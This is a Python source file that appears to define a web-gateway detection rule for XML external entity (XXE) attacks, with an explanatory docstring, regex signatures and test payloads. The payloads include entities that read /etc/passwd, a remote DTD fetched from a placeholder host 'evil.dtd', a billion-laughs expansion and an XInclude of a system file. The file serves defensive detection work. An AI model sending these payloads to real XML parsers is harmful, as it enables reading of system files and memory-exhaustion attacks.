"""XXE: XML that makes its reader fetch files and addresses, or fill its memory.

`<!ENTITY x SYSTEM "file:///etc/passwd">` puts the file where the entity is used; entities of entities become gigabytes ("billion
laughs"); `xi:include` and foreign style sheets do it without a DOCTYPE. Readers of XML that resolve entities still are common.

The rule looks for declarations of entities and for foreign DTDs, wherever they stand, in uploaded SVG and office files' parts as
well. Bodies that say they are XML are read without entities by the gateway in any case.

To fix: switch DTDs and external entities off in the reader.

What it does not protect against: XML in archives (docx, xlsx, odt), which is compressed.
"""

from yett.formats.inspected import Origin
from yett.model.rule import AttackRule, Payload, Severity
from yett.rules.inspection.signature import REQUEST, Found, Signature

RULE = AttackRule(
    id="xxe",
    title="XML external entities",
    severity=Severity.HIGH,
    owasp=("API8:2023", "API7:2023"),
    cwe=(611, 776, 827, 91),
    references=(
        "https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
        "https://www.w3.org/TR/xml/#sec-external-ent",
    ),
    matches=(
        Payload(
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "body application/xml"
        ),
        Payload('<!DOCTYPE a [<!ENTITY % d SYSTEM "http://192.0.2.1/x.dtd"> %d;]><a/>'),
        Payload('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>', "body text/xml"),
        Payload(
            '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>',
            "body text/xml",
        ),
        Payload('<!DOCTYPE foo SYSTEM "http://192.0.2.1/evil.dtd">', "query xml"),
        Payload(
            '<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/hostname">]></svg>',
            "file a.svg",
        ),
    ),
    passes=(
        Payload('<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>', "body application/xml"),
        Payload("<!DOCTYPE html><html><body>x</body></html>"),
        Payload(
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'
        ),
        Payload("an ENTITY and a SYSTEM in a text about <b>XML</b>"),
    ),
)


def _foreign(found: Found) -> bool:
    """Not one of the public document types, which name their own well-known addresses."""
    piece = found.text[found.start : found.end + 200].lower()
    known = (
        b"//www.w3.org/",
        b"//docbook",
        b"oasis-open.org",
        b"//java.sun.com/",
        b"//www.apple.com/dtds",
        b"xmlns.jcp.org",
        b"//hibernate",
        b"mybatis.org",
        b"//struts.apache",
        b"springframework.org",
        b"gnome.org",
        b"mozilla.org",
        b"freedesktop.org",
        b"//www.oasis",
    )
    return not any(name in piece for name in known) and (b"'" in piece or b'"' in piece)


SIGNATURES = (
    Signature(
        id="entity",
        pattern=rb"<!ENTITY\s+(?:%\s*)?[\w.:\-]{1,64}\s+(?:SYSTEM|PUBLIC)\s*['\"]|<!ENTITY\s+%\s*[\w.:\-]{1,64}\s+['\"]"
        rb"|<!ENTITY\s+[\w.:\-]{1,64}\s+['\"](?:[^'\"]*?&[\w#]{1,32};){2}"
        rb"|<!ENTITY\s+[\w.:\-]{1,64}\s+['\"][^'\"]*['\"]\s*>\s*(?:<!ENTITY|\]>)",
        reason="a declaration of an entity",
        where=REQUEST,
    ),
    Signature(
        id="foreign-type",
        pattern=rb"<!DOCTYPE\s+[\w.:\-]{1,64}\s*(?:SYSTEM\s*['\"]|PUBLIC\s*['\"][^'\"]*['\"]\s*['\"](?:https?|ftp|file"
        rb"|jar|php|expect|gopher|netdoc|//|\\\\))",
        reason="a foreign document type",
        where=REQUEST,
        confirm=_foreign,
    ),
    Signature(
        id="inclusion",
        pattern=rb"<(?:\w{1,16}:)?include\b[^>]*\b(?:parse\s*=\s*['\"]text|href\s*=\s*['\"](?:file:|php:|https?:|/etc/"
        rb"|expect:))|<\?xml-stylesheet\b[^>]*href\s*=\s*['\"](?:https?:)?//|<xsl:(?:include"
        rb"|import)\b[^>]*href\s*=\s*['\"](?:https?|file):|<xsl:value-of\b[^>]*(?:system-property|document\("
        rb"|unparsed-text|php:function)|xsi:schemaLocation\s*=\s*['\"][^'\"]*\b(?:file|php|expect|gopher)://",
        reason="an inclusion of a file or address",
        needle=rb"include\b[^>]*\b(?:parse|href)\s*=|xml-stylesheet|<xsl:|schemaLocation",
        where=REQUEST - {Origin.HEADER_NAME},
    ),
    Signature(
        id="broken-out",
        pattern=rb"\]\]>\s*<|<!\[CDATA\[\s*(?:<\]\]>|<[^\]]*\]\]>\s*script)|<!--\s*['\"]?\s*\]>|--><\w{1,20}>[^<]*<!--",
        reason="markup that ends the application's markup",
        where=REQUEST - {Origin.TEXT, Origin.UPLOAD, Origin.OPAQUE, Origin.HEADER},
        confirm=lambda found: len(found.text) <= 256 and found.start <= 128,
    ),
)
